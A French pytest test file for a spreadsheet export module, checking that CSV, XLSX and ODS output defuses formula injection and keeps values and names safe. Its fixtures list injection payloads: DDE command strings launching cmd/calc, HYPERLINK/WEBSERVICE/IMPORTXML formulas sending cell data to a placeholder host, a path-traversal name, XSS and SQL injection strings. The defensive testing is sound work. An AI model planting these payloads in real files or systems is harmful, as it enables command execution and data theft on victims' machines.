"""Un tableau écrit : rien n'y est une formule, un nombre et une date le restent, dix mille lignes tiennent en mémoire."""

import csv
import datetime
import io
import random
import re
import time
import tracemalloc
import zipfile
from decimal import Decimal
from itertools import pairwise
from xml.etree import ElementTree

import openpyxl
import pytest
from odf.namespaces import TABLENS
from odf.opendocument import load
from odf.table import Table, TableCell, TableRow

from securisation.socle import tableur
from securisation.socle.refus import SaisieRefusee
from securisation.socle.tableur import Feuille, ecrire, neutraliser, nom_sur, titre_sur

FORMATS = ("csv", "xlsx", "ods")
SOUS_LES_INVISIBLES = re.compile("^[\u200b\ufeff\u202e\u2066\u00ad\\s]+")
SIGNES = ["=", "+", "-", "@", "\t", "\r", "\n", "＝", "＋", "－", "＠", "﹦", "﹢", "﹣", "﹫", "−", "⁼", "₊"]
DEVANT = [
    "",
    " ",
    "\u00a0",
    "\u200b",
    "\ufeff",
    "\u202e",
    "\u2066",
    "\x00",
    "\x0b",
    "\ud800",
    "\ufffe",
    "\u3000",
    "\u00ad",
]
SUITES = [
    "1+1", "cmd|'/C calc'!A0", 'HYPERLINK("http://exemple.test/?"&A1;"Voir")',
    'WEBSERVICE("http://exemple.test/")', "SUM(1+1)*cmd|' /C x'!A0",
    "IMPORTXML(CONCAT(\"http://exemple.test/\";A1);\"//a\")", "DDE(\"cmd\";\"/C x\";\"\")", "2+5+cmd|' /C notepad'!'A1'", "A1", "_x003D_1",
    '"";=1+1', ";=1+1", ",=1+1", "\n=1+1", "\"\n=1+1\n\"", "<script>alert(1)</script>", "]]>", "&#61;1", "%0A=1", "' OR 1=1",
]  # fmt: skip


def hostiles(combien):
    """Autant de chaînes qui voudraient être des formules, toujours les mêmes."""
    alea = random.Random(2026)
    for rang in range(combien):
        devant = "".join(alea.choices(DEVANT, k=alea.randrange(3)))
        yield f"{devant}{alea.choice(SIGNES)}{alea.choice(SUITES)}{rang}"


def relire(fichier):
    """Les cellules de la première feuille, telles qu'un tableur les lit : (texte, est une formule)."""
    if fichier.extension == "csv":
        rangees = csv.reader(io.StringIO(fichier.octets.decode("utf-8-sig")), delimiter=";")
        return [(cellule, cellule[:1] in ("=", "+", "-", "@", "\t", "\r")) for rangee in rangees for cellule in rangee]
    if fichier.extension == "xlsx":
        onglet = openpyxl.load_workbook(io.BytesIO(fichier.octets)).worksheets[0]
        return [(c.value, c.data_type == "f") for rangee in onglet.iter_rows() for c in rangee if c.value is not None]
    table = load(io.BytesIO(fichier.octets)).spreadsheet.getElementsByType(Table)[0]
    return [(str(c), bool(c.getAttribute("formula"))) for c in table.getElementsByType(TableCell)]


def titres(fichier):
    """Les titres des feuilles, lus dans le fichier ouvert ; en CSV, la ligne qui précède chaque tableau."""
    if fichier.extension == "csv":
        rangees = list(csv.reader(io.StringIO(fichier.octets.decode("utf-8-sig")), delimiter=";"))
        return [rangee[0] for avant, rangee in pairwise([[], *rangees]) if rangee and not avant]
    if fichier.extension == "xlsx":
        return openpyxl.load_workbook(io.BytesIO(fichier.octets)).sheetnames
    contenu = ElementTree.fromstring(zipfile.ZipFile(io.BytesIO(fichier.octets)).read("content.xml"))
    return [table.get(f"{{{TABLENS}}}name") for table in contenu.iter(f"{{{TABLENS}}}table")]


@pytest.mark.parametrize("format", FORMATS)
class TestFormules:
    def test_dix_mille_chaines_hostiles_ne_font_aucune_formule(self, format):
        chaines = list(hostiles(10_000))
        feuille = Feuille(chaines[0], chaines[:20], [chaines[i : i + 20] for i in range(0, 10_000, 20)], chaines[:5])
        relues = relire(ecrire(format, [feuille]))
        assert len(relues) >= 10_000
        assert [texte for texte, vivante in relues if vivante] == []
        # Chacune porte l'apostrophe : enregistrée en CSV depuis un tableur, elle ne se réveille pas.
        assert [texte for texte, _ in relues if texte and not str(texte).startswith("'")] == []

    def test_le_titre_d_une_feuille_n_en_ouvre_pas(self, format):
        voulus = ("=cmd|x!A0", "＝1+1", "@a", "'=1", "[x]:*?/\\", "\u200b+1", "-1")
        fichier = ecrire(format, [Feuille(titre, ["a"], [["b"]]) for titre in voulus])
        ecrits = titres(fichier)
        assert len(ecrits) == len(voulus)
        assert [titre for titre in ecrits if SOUS_LES_INVISIBLES.sub("", titre)[:1] in SIGNES] == []
        # Dans un classeur, une apostrophe en tête fermerait le nom qu'une formule cite ; en CSV, c'est elle qui protège.
        assert format == "csv" or [titre for titre in ecrits if titre.startswith("'")] == []
        assert [texte for texte, vivante in relire(fichier) if vivante] == []


class TestNeutraliser:
    @pytest.mark.parametrize("devant", DEVANT)
    @pytest.mark.parametrize("signe", SIGNES)
    def test_chaque_signe_quoi_qu_il_y_ait_devant(self, devant, signe):
        assert neutraliser(f"{devant}{signe}1").startswith("'")

    @pytest.mark.parametrize("texte", ["", "Mme Diallo", "1+1", "2026-10-05", "« = »", "a=b", "100 %", "\u200b", "'=1"])
    def test_un_texte_ordinaire_ne_change_pas(self, texte):
        assert neutraliser(texte) == texte

    @pytest.mark.parametrize("nom", ["=cmd", "../../etc/passwd", "a\r\nb: c", '"; x="', "Éditions d’été", "", "..."])
    def test_un_nom_de_fichier_est_simple(self, nom):
        assert re.fullmatch(r"[A-Za-z0-9][A-Za-z0-9._-]*", nom_sur(nom))

    def test_deux_feuilles_n_ont_pas_le_meme_titre(self):
        pris = []
        for titre in ("Origines", "origines", "ORIGINES", "", "", "x" * 40, "x" * 40, "History"):
            pris.append(titre_sur(titre, pris))
        assert len({titre.lower() for titre in pris}) == len(pris)
        assert max(map(len, pris)) <= 31 and "History" not in pris


MOMENT = datetime.datetime(2026, 11, 5, 23, 30, tzinfo=datetime.UTC)
JOUR = datetime.date(2026, 11, 5)
VALEURS = [12, -5, 3.5, Decimal("0.25"), JOUR, MOMENT, True, None, "texte\nsur deux lignes", 10**20, float("nan")]
TITRES = [f"colonne {rang}" for rang in range(len(VALEURS))]


class TestValeurs:
    def test_xlsx_garde_nombres_et_dates(self):
        octets = ecrire("xlsx", [Feuille("Essai", TITRES, [VALEURS])]).octets
        lues = [cellule.value for cellule in openpyxl.load_workbook(io.BytesIO(octets)).worksheets[0][2]]
        assert lues[:4] == [12, -5, 3.5, 0.25]
        assert lues[4] == datetime.datetime.fromisoformat("2026-11-05")
        assert lues[5] == datetime.datetime.fromisoformat("2026-11-06T00:30")
        assert lues[6:] == ["oui", None, "texte\nsur deux lignes", str(10**20), "nan"]

    def test_ods_garde_nombres_et_dates(self):
        octets = ecrire("ods", [Feuille("Essai", TITRES, [VALEURS])]).octets
        rangee = load(io.BytesIO(octets)).spreadsheet.getElementsByType(TableRow)[1].getElementsByType(TableCell)
        genres = ["float"] * 4 + ["date"] * 2 + ["string", None] + ["string"] * 3
        assert [c.getAttribute("valuetype") for c in rangee] == genres
        assert [c.getAttribute("value") for c in rangee][:4] == ["12", "-5", "3.5", "0.25"]
        assert rangee[5].getAttribute("datevalue") == "2026-11-06T00:30:00"

    def test_csv_s_ouvre_en_francais(self):
        texte = ecrire("csv", [Feuille("Essai", TITRES, [VALEURS])]).octets.decode("utf-8-sig")
        assert texte.splitlines()[1].startswith('12;-5;3,5;0,25;"2026-11-05";"2026-11-06 00:30:00";"oui";;"texte')

    def test_un_texte_qui_ressemble_a_un_code_reste_du_texte(self):
        textes = ["#N/A", "#REF!", "_x0041_", "0612345678", "007", "1e5", "  deux  espaces"]
        octets = ecrire("xlsx", [Feuille("Essai", ["a"], [[texte] for texte in textes])]).octets
        lues = [c for (c,) in openpyxl.load_workbook(io.BytesIO(octets)).worksheets[0].iter_rows(min_row=2)]
        assert {c.data_type for c in lues} == {"s"}
        assert [c.value for c in lues] == ["#N/A", "#REF!", "_x005F_x0041_", *textes[3:]]

    @pytest.mark.parametrize("format", FORMATS)
    def test_ce_que_xml_n_ecrit_pas_est_retire(self, format):
        sale = "a" + "".join(map(chr, (0, 1, 8, 11, 12, 31, 0xD800, 0xDFFF, 0xFFFE, 0xFFFF))) + "b<&>\"'" + "x" * 40_000
        octets = ecrire(format, [Feuille(sale, [sale], [[sale]], [sale])]).octets
        if format != "csv":
            with zipfile.ZipFile(io.BytesIO(octets)) as archive:
                for nom in archive.namelist():
                    if nom.endswith(".xml"):
                        ElementTree.fromstring(archive.read(nom))
        assert relire(ecrire(format, [Feuille("t", ["a"], [[sale]])]))[1][0].startswith("ab<&>\"'xxx")

    def test_plusieurs_feuilles_se_suivent(self):
        feuilles = [Feuille("Une", ["a"], [[1]], ["note"]), Feuille("Deux", ["b"], [])]
        assert ecrire("csv", feuilles).octets.decode("utf-8-sig") == (
            '"Une"\r\n"a"\r\n1\r\n\r\n"note"\r\n\r\n"Deux"\r\n"b"\r\n'
        )
        assert openpyxl.load_workbook(io.BytesIO(ecrire("xlsx", feuilles).octets)).sheetnames == ["Une", "Deux"]
        tables = load(io.BytesIO(ecrire("ods", feuilles).octets)).spreadsheet.getElementsByType(Table)
        assert [table.getAttribute("name") for table in tables] == ["Une", "Deux"]

    def test_un_format_inconnu_est_refuse(self):
        with pytest.raises(SaisieRefusee):
            ecrire("exe", [])


@pytest.mark.parametrize("format", FORMATS)
def test_dix_mille_lignes_sont_rapides_et_tiennent_en_memoire(format):
    def lignes():
        for rang in range(10_000):
            yield [f"P-2026-{rang:05}", "intervention", JOUR, "réponse de la CAF", rang, rang / 7, None, "adhésion", 1]

    feuille = Feuille("Mes parcours", [f"titre {i}" for i in range(9)], lignes())
    depart = time.process_time()
    fichier = ecrire(format, [feuille])
    assert time.process_time() - depart < 10
    tracemalloc.start()
    ecrire(format, [Feuille("Mes parcours", feuille.entetes, lignes())])
    sommet = tracemalloc.get_traced_memory()[1]
    tracemalloc.stop()
    # Le XLSX seul s'écrit ligne à ligne ; le CSV et l'ODS se tiennent entiers.
    bornes = {"csv": 10, "xlsx": 2, "ods": 40}
    assert sommet < bornes[format] * 2**20 and len(fichier.octets) < 2 * 2**20


def test_la_reponse_se_telecharge_et_ne_s_interprete_pas():
    reponse = tableur.telecharger("ods", [Feuille("a", ["b"], [])], nom="=édition 2026")
    assert reponse["Content-Disposition"] == 'attachment; filename="edition-2026.ods"'
    assert reponse["Content-Type"] == tableur.GENRES_MIME["ods"] and "sandbox" in reponse["Content-Security-Policy"]
